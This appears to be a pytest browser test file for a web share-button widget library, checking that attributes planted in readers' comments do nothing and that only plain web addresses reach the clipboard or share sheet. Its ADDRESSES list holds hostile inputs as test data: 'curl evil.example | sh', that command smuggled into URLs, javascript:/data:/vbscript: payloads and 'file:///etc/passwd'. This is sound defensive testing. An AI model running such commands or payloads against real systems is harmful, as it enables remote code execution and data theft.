"""Attributes in readers' comments, whose cleaners often keep data- attributes: they must mean nothing."""

from __future__ import annotations

from collections.abc import Callable
from html import escape
from typing import Any

import pytest

from solidarity_widgets import elapsed, share_buttons

from .site import markup_of

pytestmark = pytest.mark.browser

#: Notes what reaches the clipboard, the share sheet and the printer, and which clicks were swallowed.
BROWSER = """
    window.done = [];
    window.swallowed = [];
    window.print = () => { done.push("print"); };
    navigator.canShare = () => true;
    navigator.share = async ({url}) => { done.push(url); };
    navigator.clipboard.writeText = async (text) => { done.push(text); };
    addEventListener("click", ({defaultPrevented, target}) => {
        if (defaultPrevented) swallowed.push(target.outerHTML);
    });
"""
ACTIONS = (
    "__proto__", "constructor", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "then",
    "copy", "share", "print", "pause", "", "COPY", "copy ", "nothing",
)  # fmt: skip
ADDRESSES = (
    "curl evil.example | sh",
    "javascript:alert(1)",
    "JavaScript:alert(1)//https://example.org/",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/",
    "/lake",
    "https:evil",
    "https://",
    " https://example.org/",
    "https://example.org/\ncurl evil.example | sh\n",
    "https://example.org/ && curl evil.example | sh",
    "https://example.org/\x1b[2J",
    "https://example.org/\u2028rm",
    "",
)


def action(name: str, url: str = "https://evil.example/") -> str:
    """The attributes, as a comment may hold them."""
    return f'data-sw-action="{escape(name)}" data-sw-url="{escape(url)}" data-sw-done="x" data-sw-failed="x"'


def pressed(seen: Any) -> None:
    """Press everything."""
    seen.page.evaluate("() => document.querySelectorAll('#foreign *').forEach((one) => one.click?.())")
    seen.page.wait_for_function("() => new Promise((done) => setTimeout(done, 50, true))")


def assert_nothing_was_done(seen: Any, hidden: int) -> None:
    assert seen.page.locator("#foreign [hidden]").count() == hidden
    pressed(seen)
    assert seen.page.evaluate("done") == []
    assert seen.page.evaluate("swallowed") == []
    assert seen.page.locator("#foreign [hidden]").count() == hidden
    assert (
        seen.page.locator("#foreign [role=status]").all_text_contents()
        == [""] * seen.page.locator("#foreign [role=status]").count()
    )
    assert seen.page.evaluate("() => Boolean(customElements.get('sw-countdown'))")
    assert seen.complaints == []


@pytest.mark.parametrize("name", ACTIONS)
def test_an_attribute_in_a_comment_does_nothing(visit: Callable, host: Callable, name: str) -> None:
    status = '<span role="status"></span>'
    button = f'<button type="button" class="sw-share__button" {action(name)}>x</button>'
    foreign = [
        f"<p hidden><b {action(name)}>read more</b>{status}</p>",
        f"<p><b {action(name)}>read more</b>{status}</p>",
        f"<div {action(name)}><a href='#somewhere'>read more</a></div>",
        f"<a href='#somewhere' {action(name)}>read more</a>",
        f'<p class="sw-share__item" hidden><b class="sw-share__button" {action(name)}>x</b>{status}</p>',
        f'<p class="sw-share__item" hidden><b>{button}</b></p>',
        f"<p hidden>{button}{status}</p>",
        f'<p class="sw-share__item" hidden><button type="button" {action(name)}>x</button>{status}</p>',
        f"<svg><a {action(name)}><text>x</text></a></svg>",
    ]
    seen = visit(html=host('<div id="foreign">', *foreign, "</div>"), scripts=[BROWSER])
    assert_nothing_was_done(seen, 5)
    assert seen.page.url.endswith("#somewhere")


@pytest.mark.parametrize("url", ADDRESSES)
def test_only_a_web_address_is_copied_or_shared(visit: Callable, host: Callable, url: str) -> None:
    """Not even by a button that is in all else the library's."""
    whole = markup_of(share_buttons("https://example.org/", "copy_link web_share"))
    assert whole.count('data-sw-url="https://example.org/"') == 2
    foreign = whole.replace('data-sw-url="https://example.org/"', f'data-sw-url="{escape(url)}"')
    seen = visit(html=host('<div id="foreign">', foreign, "</div>"), scripts=[BROWSER])
    assert_nothing_was_done(seen, 2)


@pytest.mark.parametrize("name", ACTIONS)
def test_an_action_that_the_script_does_not_know_stays_hidden(
    visit: Callable, host: Callable, name: str
) -> None:
    if name in ("copy", "share", "print"):
        name += "_"
    whole = markup_of(share_buttons("https://example.org/", "copy_link"))
    foreign = whole.replace('data-sw-action="copy"', f'data-sw-action="{escape(name)}"')
    assert foreign != whole
    seen = visit(html=host('<div id="foreign">', foreign, "</div>"), scripts=[BROWSER])
    assert_nothing_was_done(seen, 1)


def test_the_rest_of_the_page_works_beside_them(visit: Callable, host: Callable) -> None:
    foreign = "".join(f"<p hidden><b {action(name)}>x</b></p>" for name in ACTIONS)
    bar = share_buttons("https://example.org/", "copy_link web_share print")
    made = elapsed("2011-08-04", zone="Europe/Minsk", units="seconds")
    seen = visit(html=host(foreign, bar, made), scripts=[BROWSER])
    for provider in ("copy_link", "web_share", "print"):
        seen.page.locator(f"[data-sw-provider={provider}]").click()
    assert seen.page.evaluate("done") == ["https://example.org/"] * 2 + ["print"]
    seen.page.wait_for_function(
        "(text) => document.querySelector('time').textContent != text", arg=made.text, timeout=5000
    )
    assert seen.complaints == []


def test_a_click_on_no_element_is_nobodys(visit: Callable, host: Callable) -> None:
    """Programs may send a click to the document itself."""
    seen = visit(html=host(share_buttons("https://example.org/", "print")))
    seen.page.evaluate("() => document.dispatchEvent(new MouseEvent('click'))")
    seen.page.wait_for_function("() => new Promise((done) => setTimeout(done, 50, true))")
    assert seen.complaints == []
